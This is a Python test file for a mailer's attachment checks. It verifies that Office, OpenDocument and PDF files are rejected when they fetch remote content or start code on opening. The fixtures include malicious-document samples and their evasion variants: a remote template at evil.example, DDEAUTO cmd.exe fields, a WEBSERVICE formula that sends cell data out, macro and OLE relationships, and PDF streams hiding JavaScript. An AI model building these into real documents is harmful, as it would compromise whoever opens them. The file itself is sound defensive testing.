"""Documents that fetch something or start something when opened, however they write it; and PDFs
that hide what they do.
"""

import zlib

import pytest

from mailer.errors import BadInput
from mailer.releases.files.preparing import Prepared, prepared
from tests.releases.files import samples

RELS = "word/_rels/document.xml.rels"
DOCUMENT = "word/document.xml"
TEMPLATE = (
    '<Relationship Type="x/attachedTemplate" Target="https://evil.example/a.dotm"'
    ' TargetMode="External"/>'
)
DDE = "<w:p><w:instrText>DDEAUTO c:\\cmd.exe</w:instrText></w:p>"
SCRIPT = b"5 0 <</S/JavaScript/JS(x)>>"
PACKED = zlib.compress(SCRIPT)


def ready(octets: bytes, name: str) -> Prepared:
    return prepared(octets, name=name, limits=samples.limits())


def spreadsheet(**parts: str) -> bytes:
    kind = samples.CONTENT_TYPES.replace("wordprocessingml.document", "spreadsheetml.sheet")
    return samples.document(**{"[Content_Types].xml": kind, **parts})


def open_document(content: str) -> bytes:
    return samples.zipped(
        {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": content}
    )


@pytest.mark.parametrize(
    "relationships",
    [
        TEMPLATE.replace('"', "'"),
        TEMPLATE.replace("Mode=", "Mode = "),
        TEMPLATE.replace("External", "&#69;xternal"),
        TEMPLATE.replace("attachedTemplate", "attached&#x54;emplate"),
        TEMPLATE.replace(" Target=", ' Note=">" Target='),
        TEMPLATE.replace("a.dotm", "a" * 4000),
        TEMPLATE.replace("attachedTemplate", "image"),
        TEMPLATE.replace("attachedTemplate", "subDocument"),
        TEMPLATE.encode("utf-16"),
        TEMPLATE.encode("utf-16-le"),
    ],
)
def test_a_document_fetches_nothing_however_it_writes_it(relationships: str | bytes) -> None:
    with pytest.raises(BadInput, match="fetches something"):
        ready(samples.document(**{RELS: relationships}), "note.docx")


def test_a_link_that_somebody_must_follow_is_taken() -> None:
    linked = TEMPLATE.replace("attachedTemplate", "hyperlink")

    assert ready(samples.document(**{RELS: linked}), "note.docx").notes == ()


@pytest.mark.parametrize(
    ("parts", "why"),
    [
        ({"word/header1.xml": DDE}, "DDE"),
        ({"word/other.xml": DDE}, "DDE"),
        ({DOCUMENT: DDE.encode("utf-16")}, "DDE"),
        ({DOCUMENT: "<w:fldSimple w:instr='ddeauto c:\\cmd.exe'/>"}, "DDE"),
        ({DOCUMENT: "<w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO x</w:instrText>"},
         "DDE"),
        ({DOCUMENT: '<!DOCTYPE d [<!ENTITY e "DDEAUTO">]><d/>'}, "entities"),
        ({RELS: '<Relationship Type="x/aFChunk" Target="a.mht"/>'}, "a macro or a program"),
        ({RELS: '<Relationship Type="x/oleObject" Target="a.bin"/>'}, "a macro or a program"),
        ({RELS: '<Relationship Type="x/vbaProject" Target="a.bin"/>'}, "a macro or a program"),
    ],
)  # fmt: skip
def test_a_document_starts_nothing_however_it_writes_it(
    parts: dict[str, str | bytes], why: str
) -> None:
    with pytest.raises(BadInput, match=why):
        ready(samples.document(**parts), "note.docx")


@pytest.mark.parametrize(
    ("part", "why"),
    [
        ('<externalLink><ddeLink ddeService="cmd"/></externalLink>', "DDE"),
        ('<f>_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)</f>', "asks a database or a site"),
        ('<connection><dbPr connection="Server=inside"/></connection>', "asks a database"),
    ],
)
def test_a_table_asks_nobody_for_its_figures(part: str, why: str) -> None:
    with pytest.raises(BadInput, match=why):
        ready(spreadsheet(xl__any_dot_xml=part), "figures.xlsx")


@pytest.mark.parametrize(
    ("content", "why"),
    [
        ('<draw:image xlink:href="https://evil.example/x.png"/>', "fetches something"),
        ("<draw:image xlink:href = '&#104;ttps://evil.example/x.png'/>", "fetches something"),
        ('<z:section-source z:href="../secret.odt"/>', "fetches something"),
        ('<office:dde-source office:dde-application="soffice"/>', "DDE"),
        ('<script:event-listener xlink:href="vnd.sun.star.script:a?location=share"/>', "a macro"),
        ('<text:a xlink:href="vnd.sun.star.script:a">x</text:a>', "a macro"),
        ('<draw:object-ole xlink:href="./Object 1"/>', "a macro or a program"),
    ],
)
def test_an_open_document_fetches_and_starts_nothing(content: str, why: str) -> None:
    with pytest.raises(BadInput, match=why):
        ready(open_document(content), "note.odt")


def test_an_open_document_with_a_link_and_its_own_picture_is_taken() -> None:
    content = '<text:a xlink:href="https://a.example/">x</text:a><draw:image xlink:href="P/1.png"/>'

    assert ready(open_document(content), "note.odt").notes == ()


def objects(about: bytes, held: bytes = PACKED, begin: bytes = b"stream\n") -> bytes:
    return samples.pdf(b"4 0 obj<<" + about + b">>" + begin + held + b"\nendstream endobj\n")


TYPE = b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"


@pytest.mark.parametrize(
    ("octets", "why"),
    [
        (objects(TYPE + b" " * 1_000), "runs a script"),
        (objects(TYPE + b" " * 30_000), "runs a script"),
        (objects(TYPE + b"/X(obj)"), "runs a script"),
        (objects(TYPE, begin=b"stream\r"), "runs a script"),
        (objects(TYPE, begin=b"stream \n"), "runs a script"),
        (objects(b"/Type 9 0 R/N 1/First 4/Filter/FlateDecode"), "runs a script"),
        (objects(TYPE.replace(b"FlateDecode", b"Fl")), "runs a script"),
        (objects(TYPE + b"/DecodeParms<</Predictor 12/Columns 5>>"), "cannot be read"),
        (objects(TYPE + b"/DecodeParms 9 0 R"), "cannot be read"),
        (objects(TYPE.replace(b"/FlateDecode", b"[/FlateDecode/ASCIIHexDecode]")),
         "cannot be read"),
        (objects(b"/N 1/First 4/F(https://evil.example/)/FFilter/FlateDecode"), "cannot be read"),
    ],
)  # fmt: skip
def test_a_pdf_hides_no_script(octets: bytes, why: str) -> None:
    with pytest.raises(BadInput, match=why):
        ready(octets, "note.pdf")


def test_many_streams_that_unpack_to_much_end_soon() -> None:
    """Each is small enough; together they would keep a worker busy for minutes."""
    part = b"4 0 obj/First 1 0 obj/FlateDecode stream\n" + zlib.compress(bytes(9_000_000))

    with pytest.raises(BadInput, match="cannot be read"):
        ready(samples.pdf((part + b"\nendstream\n") * 100), "note.pdf")
